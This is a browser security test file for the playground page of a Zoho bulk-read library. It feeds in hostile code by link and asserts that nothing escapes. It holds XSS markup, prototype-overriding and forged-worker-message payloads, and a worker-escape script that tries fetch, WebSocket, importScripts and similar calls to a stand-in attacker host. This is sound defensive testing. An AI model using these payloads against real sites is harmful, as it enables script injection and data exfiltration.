import { createServer } from "node:http";
import type { Browser } from "playwright-core";
import { afterAll, afterEach, beforeAll, describe, expect, test } from "vitest";
import { hasBrowser, startBrowser } from "./browser.js";
import { head, linkTo, openPlayground, type Playground } from "./playground-page.js";
import { isBuilt } from "./site-server.js";

/** Stands for the attacker's server. */
const nowhere = "http://nowhere.invalid/";

const markup = `<img src="x" onerror="document.title='taken'"><iframe src="http://nowhere.invalid/"></iframe>`;

/** What somebody may send in a link. Each gets its words into everything that the page shows. */
const attacks: Readonly<Record<string, string>> = {
	"overwriting Array.prototype.join": `${head}
Array.prototype.join = () => ${JSON.stringify(markup)};
export const job = bulkRead(Contacts).select("Last_Name").where((where) => where("Last_Name").in(["a", "b"]));
`,
	"answering in the worker's place": `${head}
const world = globalThis as any;
const { postMessage } = world.MessagePort.prototype;
const markup = ${JSON.stringify(markup)};
world.MessagePort.prototype.postMessage = function (message: any) {
	const tree = { kind: "group", operator: markup, members: [{ kind: "condition", field: markup, words: markup }, null] };
	const shown = { module: markup, english: markup, tree, size: markup, request: markup, json: markup, programs: { curl: markup, __proto__: null }, scopes: [markup], hints: [{ message: markup, fix: { given: markup, wanted: markup } }] };
	const outcome = { columns: [markup], rows: [[markup], markup], count: markup, milliseconds: markup };
	postMessage.call(this, { id: message.id, kind: "report", value: { state: markup, milliseconds: markup } });
	postMessage.call(this, { ...message, value: { shown, ...outcome } });
	// What comlink, on the other end, would take for "call the constructor of the function that you lent me".
	for (const type of ["APPLY", "CONSTRUCT", "GET"])
		postMessage.call(this, { id: "1", type, path: ["constructor"], argumentList: [{ type: "RAW", value: "document.title='taken'" }] });
};
export const job = bulkRead(Contacts).select("Last_Name");
`,
	"values that are markup": `${head}
export const job = bulkRead(Contacts).select("Last_Name").where((where) => where("Lead_Source").equal(${JSON.stringify(markup)}));
`,
};

/** Every way out of a worker. */
const breakOut = `${head}
const world = globalThis as any;
const url = "http://nowhere.invalid/?taken";
const notes: string[] = [];
const attempt = (name: string, act: () => unknown) => {
	try { act(); notes.push(name); } catch (error) { notes.push("no " + name); }
};
attempt("fetch", () => void world.fetch(url).catch(() => 0));
attempt("XMLHttpRequest", () => { const ask = new world.XMLHttpRequest(); ask.open("GET", url, false); ask.send(); });
attempt("WebSocket", () => new world.WebSocket("http://nowhere.invalid/"));
attempt("EventSource", () => new world.EventSource(url));
attempt("importScripts", () => world.importScripts(url));
attempt("location", () => { world.location.href = url; });
attempt("modules", () => world.require("./zoho.js"));
attempt("Worker", () => new world.Worker(world.URL.createObjectURL(new world.Blob(["fetch('" + url + "'); importScripts('" + url + "')"]))));
attempt("indexedDB", () => { if (world.indexedDB.open("x")) return; });
attempt("page", () => { if (world.document || world.parent || world.localStorage) return; throw 0; });
export const job = bulkRead(Contacts).where((where) => where("Last_Name").equal(notes.filter((note) => note === "page" || note === "modules").join("+") || "nothing"));
`;

/** Listens for whatever gets out. */
async function startThief() {
	const arrived: (string | undefined)[] = [];
	const server = createServer(({ url }, response) => {
		arrived.push(url);
		response.writeHead(200, { "access-control-allow-origin": "*" }).end();
	});
	server.on("upgrade", ({ url }, socket) => {
		arrived.push(url);
		socket.destroy();
	});
	await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
	const address = server.address();
	const port = typeof address === "object" && address ? address.port : 0;
	return { arrived, url: `http://127.0.0.1:${port}/`, close: () => server.close() };
}

const canLook = isBuilt && hasBrowser;

describe.skipIf(!canLook)("a text that came by a link (needs npm run docs and chromium)", { timeout: 60_000 }, () => {
	let browser: Browser;
	let thief: Awaited<ReturnType<typeof startThief>>;
	beforeAll(async () => {
		browser = await startBrowser();
		thief = await startThief();
		await fetch(`${thief.url}heard`);
		expect(thief.arrived.splice(0)).toEqual(["/heard"]);
	});
	afterAll(async () => {
		await browser.close();
		thief.close();
	});
	afterEach(() => Promise.all(browser.contexts().map((context) => context.close())));

	const expectUnharmed = async ({ page }: Playground): Promise<void> => {
		expect(await page.title()).toBe("Playground - zoho-bulk-read");
		expect(await page.locator("body img, body iframe:not([sandbox])").count()).toBe(0);
		expect(
			await page.locator("iframe").evaluateAll((frames) => frames.map((frame) => frame.getAttribute("sandbox"))),
		).toEqual(["allow-scripts"]);
		expect(thief.arrived).toEqual([]);
		expect(page.url()).toMatch(/playground\.html/);
	};

	test.each(Object.entries(attacks))("%s puts no markup into the page", async (_, text) => {
		const playground = await openPlayground(browser, linkTo(text.replaceAll(nowhere, thief.url)));
		const { page } = playground;
		await page.locator("#english", { hasText: /\S/ }).waitFor();
		await page.keyboard.press("Escape");
		for (const tab of ["json", "curl", "code", "run"]) await page.locator(`label[for=tab-${tab}]`).click();
		await page.locator("#run").click();
		await page.locator("#outcome", { hasText: /\S/ }).waitFor();
		expect(await page.locator("#shown").textContent()).toContain("<img");
		await expectUnharmed(playground);
	});

	test("it finds no way out, and nothing of the user's; and markup that gets into the page all the same does not run", async () => {
		const playground = await openPlayground(browser, linkTo(breakOut.replaceAll(nowhere, thief.url)));
		const { page } = playground;
		await page.locator("#english", { hasText: 'Last_Name is "nothing"' }).waitFor();
		await page.evaluate(
			(html) => {
				const box = document.createElement("div");
				box.id = "stranger";
				box.innerHTML = html;
				document.body.append(box);
			},
			`${markup.replace(nowhere, thief.url)}<a id="away" href="javascript:document.title='taken'">x</a>`,
		);
		await page.locator("#away").click();
		await page.waitForTimeout(500);
		await page.evaluate(() => document.querySelector("#stranger")?.remove());
		await expectUnharmed(playground);
	});

	test("the user's own modules are lent to it by a click, and not before", async () => {
		const { page, write, reopen } = await openPlayground(browser);
		const fields = [{ api_name: "Name", data_type: "text" }];
		const metadata = {
			modules: { modules: [{ api_name: "Secrets", api_supported: true }] },
			fields: { Secrets: { fields } },
		};
		await page.locator("#import").click();
		await page.locator("#import-text").fill(JSON.stringify(metadata));
		await page.locator("#import-use").click();
		await page.locator("#english", { hasText: "Every record of Secrets" }).waitFor();

		const curious =
			'import { bulkRead } from "zoho-bulk-read";\nimport * as own from "./zoho.js";\nexport const job = bulkRead(own.Secrets);\n';
		await reopen(linkTo(curious));
		await page.locator("#problems", { hasText: "needs modules" }).waitFor();
		expect(await page.locator("#english").textContent()).not.toContain("Secrets");
		// To write is not to agree: the rest of the text is still somebody else's.
		await write(`${curious}\n`);
		await page.locator("#problems", { hasText: "needs modules" }).waitFor();
		await page.reload();
		await page.locator("#problems", { hasText: "needs modules" }).waitFor();
		await page.locator("#notice button", { hasText: "Let it use my modules" }).click();
		await page.locator("#english", { hasText: "Every record of Secrets" }).waitFor();
	});
});
